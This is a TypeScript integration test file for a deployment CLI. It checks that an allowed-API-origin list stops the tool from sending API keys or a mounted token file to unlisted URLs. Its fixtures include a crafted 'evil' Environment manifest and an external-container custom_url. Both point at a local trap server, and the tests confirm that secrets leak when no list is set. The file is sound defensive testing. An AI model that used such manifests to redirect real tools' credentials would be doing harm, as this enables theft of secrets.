import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  DEFAULT_INTEGRATION_ID,
  DEFAULT_LISTENER_ID,
  DEFAULT_TENANT_ID,
} from "../../src/control-plane/options.js";
import { type RunningControlPlane, startControlPlane } from "../../src/control-plane/server.js";
import { api } from "../controller/support.js";
import { runInProcess } from "../support/in-process-cli.js";

// --allow-api-origin / PLUMB_ALLOWED_API_ORIGINS against a real local control plane (listed) and a
// loopback server that is not (the "attacker"): a merged Environment naming a token file and the
// attacker's URL, PLUMB_API_URL at the attacker, and verify's agent URL (an external container's
// custom_url) at the attacker. The attacker counts every request and the X-Api-Key it carried:
// with the list, none; without it (the attack as it was), the token arrives.

const KEY = "listed-key-0123456789abcdef";
const TOKEN = "eyJ-mounted-token-canary-0123456789abcdef";

type Seen = { method: string; url: string; key: string | undefined };
let cp: RunningControlPlane;
let selfHosted: RunningControlPlane;
let trap: Server;
let trapUrl: string;
const seen: Seen[] = [];
let dir: string;
let flat: string;
let edge: string;

const environment = (name: string, url: string, key: string) =>
  `apiVersion: plumb/v1\nkind: Environment\nmetadata:\n  name: ${name}\nspec:\n  mode: saas\n  api_url: ${url}\n  api_key: ${key}\n`;
const plain = `apiVersion: plumb/v1
kind: Deployment
metadata: {name: alpha}
spec: {source: internal_container, source_revision_config: {image_uri: "img/alpha:1"}}
`;

beforeAll(async () => {
  const grant = { apiKeys: [{ key: KEY, tenants: [DEFAULT_TENANT_ID] }] };
  const fast = { revisionSeconds: 0, deploymentReadySeconds: 0 };
  cp = await startControlPlane({ ...fast, ...grant });
  selfHosted = await startControlPlane({ ...fast, ...grant, mode: "self-hosted" });
  trap = createServer((req, res) => {
    seen.push({ method: req.method ?? "", url: req.url ?? "", key: req.headers["x-api-key"] as string });
    res.writeHead(200, { "content-type": "application/json" }).end("{}");
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  dir = await mkdtemp(join(tmpdir(), "plumb-allow-origin-"));
  flat = join(dir, "flat");
  edge = join(dir, "edge");
  const tree = join(dir, "tree");
  for (const d of [flat, edge, tree]) await mkdir(d);
  await writeFile(join(dir, "token"), `${TOKEN}\n`);
  await writeFile(join(tree, "env-good.yaml"), environment("good", cp.url, "{env: GOOD_KEY}"));
  await writeFile(join(tree, "zz-evil.yaml"), environment("evil", trapUrl, `{file: ${join(dir, "token")}}`));
  await writeFile(join(tree, "alpha.yaml"), plain);
  await writeFile(join(flat, "alpha.yaml"), plain);
  await writeFile(
    join(edge, "edge.yaml"),
    `apiVersion: plumb/v1
kind: Deployment
metadata: {name: edge}
spec:
  source: external_container
  source_config:
    listener_id: ${DEFAULT_LISTENER_ID}
    listener_config: {k8s_namespace: agents}
    custom_url: ${trapUrl}/edge
  source_revision_config: {image_uri: "img/edge:1"}
  verify:
    assistant_id: agent
    cases:
      - {name: ping, input: ping, expect_regex: "^pong$"}
`,
  );
});
afterAll(async () => {
  await cp?.stop();
  await selfHosted?.stop();
  await new Promise((resolve) => trap?.close(resolve));
  await rm(dir, { recursive: true, force: true });
});
beforeEach(() => void seen.splice(0));

const tree = () => join(dir, "tree");
const settings = (more: Record<string, string> = {}) => ({
  GOOD_KEY: KEY,
  PLUMB_API_URL: cp.url,
  PLUMB_API_KEY: KEY,
  ...more,
});

describe("an Environment whose api_url is not listed", () => {
  it("without a list (the attack as it was): the token file is read and sent to its api_url", async () => {
    await runInProcess(["plan", tree(), "--env", "evil"], settings());
    expect(seen.length).toBeGreaterThan(0);
    expect(seen[0]!.key).toBe(TOKEN);
  }, 30_000);

  it("--allow-api-origin: refused at its file:line, nothing sent, no key shown", async () => {
    const { code, output } = await runInProcess(
      ["plan", tree(), "--env", "evil", "--allow-api-origin", cp.url],
      settings(),
    );
    expect(code).toBe(1);
    expect(output).toContain(
      `environment evil (zz-evil.yaml:7): spec.api_url: ${trapUrl} is not an allowed API origin (--allow-api-origin: ${cp.url})`,
    );
    expect(output).toContain("[api-origin-not-allowed]");
    expect(output).not.toContain("canary");
    expect(seen).toEqual([]);
  }, 30_000);

  it("PLUMB_ALLOWED_API_ORIGINS: apply of every environment stops before any is applied", async () => {
    const before = (await api(cp.url, KEY).deployments()).length;
    const { code, output } = await runInProcess(
      ["apply", tree(), "--yes"],
      settings({ PLUMB_ALLOWED_API_ORIGINS: `${cp.url}/` }),
    );
    expect(code, output).toBe(1);
    expect(output).toContain("[api-origin-not-allowed]");
    expect(seen).toEqual([]);
    expect(await api(cp.url, KEY).deployments()).toHaveLength(before);
  }, 30_000);

  it("the listed environment still applies", async () => {
    const { code, output } = await runInProcess(
      ["apply", tree(), "--env", "good", "--yes", "--allow-api-origin", cp.url.toUpperCase()],
      settings(),
    );
    expect(code, output).toBe(0);
    expect((await api(cp.url, KEY).deployments()).map((d) => d.name)).toEqual(["alpha"]);
    expect(seen).toEqual([]);
  }, 30_000);
});

describe("PLUMB_API_URL not listed", () => {
  it("refused before the key is read or anything sent", async () => {
    const { code, output } = await runInProcess(
      ["drift", flat, "--api-key-file", join(dir, "no-such-key")],
      settings({ PLUMB_API_URL: trapUrl, PLUMB_ALLOWED_API_ORIGINS: cp.url }),
    );
    expect(code, output).toBe(1);
    expect(output).toContain(`PLUMB_API_URL: ${trapUrl} is not an allowed API origin`);
    expect(seen).toEqual([]);
  }, 30_000);

  it("a bad list entry is a usage error naming it", async () => {
    const { code, output } = await runInProcess(
      ["plan", flat, "--allow-api-origin", `${cp.url}/v2`],
      settings(),
    );
    expect(code).toBe(64);
    expect(output).toContain(`"${cp.url}/v2" is not an API origin`);
  }, 30_000);
});

describe("verify's agent URL not listed", () => {
  const applyEdge = (more: Record<string, string>) =>
    runInProcess(["apply", edge, "--yes"], settings({ PLUMB_API_URL: selfHosted.url, ...more }));

  it("the deployment is applied on the listed control plane; its agent server gets nothing", async () => {
    const { code, output } = await applyEdge({ PLUMB_ALLOWED_API_ORIGINS: selfHosted.url });
    expect(code, output).toBe(1);
    // The check fails (verify-failed), saying why: the request was refused unsent.
    expect(output).toContain(`not sent: ${trapUrl} is not an allowed API origin`);
    expect((await api(selfHosted.url, KEY).deployments()).map((d) => d.name)).toEqual(["edge"]);
    expect(seen).toEqual([]);
  }, 30_000);

  it("without a list (as it was): verify sends the key to the custom_url", async () => {
    await applyEdge({});
    expect(seen.length).toBeGreaterThan(0);
    expect(seen[0]).toMatchObject({ url: expect.stringMatching(/^\/edge\//), key: KEY });
  }, 30_000);
});

describe("a gitrepo deployment's custom_url, set by the listed control plane", () => {
  // The control plane assigns it (read-only, spec "custom_url"), on a host of its own on the real
  // service: here it is http://127.0.0.1:PORT/agents/ID while the API is reached, and listed, as
  // http://localhost:PORT, another origin. The manifests cannot write it, so it is trusted as the
  // listed control plane that answered with it; without that, pinning broke verify of every
  // gitrepo deployment.
  it("verify reaches it although its origin is not listed; nothing goes to the trap", async () => {
    const repo = join(dir, "repo");
    await mkdir(repo, { recursive: true });
    await writeFile(
      join(repo, "git-agent.yaml"),
      `apiVersion: plumb/v1
kind: Deployment
metadata: {name: git-agent}
spec:
  source: gitrepo
  source_config:
    integration_id: ${DEFAULT_INTEGRATION_ID}
    repo_url: https://github.com/acme/git-agent
    deployment_type: dev
  source_revision_config: {repo_ref: refs/tags/v1.0.0, graph_config_path: langgraph.json}
  verify:
    assistant_id: agent
    cases:
      - {name: ping, input: ping, expect_regex: "^pong$"}
`,
    );
    const viaLocalhost = cp.url.replace("127.0.0.1", "localhost");
    const { code, output } = await runInProcess(
      ["apply", repo, "--yes"],
      settings({ PLUMB_API_URL: viaLocalhost, PLUMB_ALLOWED_API_ORIGINS: viaLocalhost }),
    );
    expect(code, output).toBe(0);
    expect(output).toContain("verify passed");
    const live = (await api(cp.url, KEY).deployments()).find((d) => d.name === "git-agent");
    expect(live?.source_config.custom_url).toMatch(/^http:\/\/127\.0\.0\.1:/);
    expect(seen).toEqual([]);
  }, 30_000);
});
